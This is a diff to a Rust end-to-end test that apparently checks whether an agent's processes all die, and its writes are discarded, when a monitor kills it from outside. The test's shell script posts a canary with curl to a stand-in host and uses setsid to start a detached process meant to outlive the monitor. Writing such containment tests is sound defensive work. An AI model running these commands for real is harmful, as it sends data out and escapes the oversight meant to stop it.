@@ -3,7 +3,7 @@
 use std::time::Duration;
 
 use kairos_e2e::place::canary;
-use kairos_e2e::process::{processes_with, until};
+use kairos_e2e::process::{processes_with, signal_process, until};
 use kairos_e2e::{Outcome, Run, Who};
 
 use crate::ground::{Ground, somebody};
@@ -48,28 +48,24 @@ fn from_outside_the_agent_dies_with_it_and_nothing_is_committed() {
         let word = canary();
         ground.workspace.write("file.txt", "before\n");
         let script = format!(
-            ": {word}; echo after > file.txt; curl -sS -d {word} http://collect.example.test/; setsid sleep 600.{} & \
-                              while :; do sleep 0.1; done",
-            word.trim_start_matches(char::is_alphabetic)
-                .get(..3)
-                .unwrap_or("1")
+            "echo after > file.txt; curl -sS -d {word} http://collect.example.test/; \
+             setsid sh -c ': {word}; while :; do sleep 0.1; done' & \
+             : {word}; while :; do sleep 0.1; done"
         );
         let mut run = Run::shell(&ground.workspace, &script)
             .within(&ground.world)
             .who(who)
             .start();
-        assert!(
-            until(Duration::from_secs(20), || processes_with(&word).len() > 1),
-            "the agent did not start: {:?}",
-            run.so_far()
-        );
+        let started = until(Duration::from_secs(20), || processes_with(&word).len() > 2);
         std::thread::sleep(Duration::from_millis(1000));
         run.kill();
-        assert!(
-            until(Duration::from_secs(5), || processes_with(&word).is_empty()),
-            "these outlive the monitor: {:?}",
-            processes_with(&word)
-        );
+        let ended = until(Duration::from_secs(5), || processes_with(&word).is_empty());
+        let left = processes_with(&word);
+        for id in &left {
+            signal_process(&id.to_string(), "KILL");
+        }
+        assert!(started, "the agent did not start: {:?}", run.so_far());
+        assert!(ended, "these outlive the monitor: {left:?}");
         assert_eq!(
             ground.workspace.read("file.txt").as_deref(),
             Some("before\n")
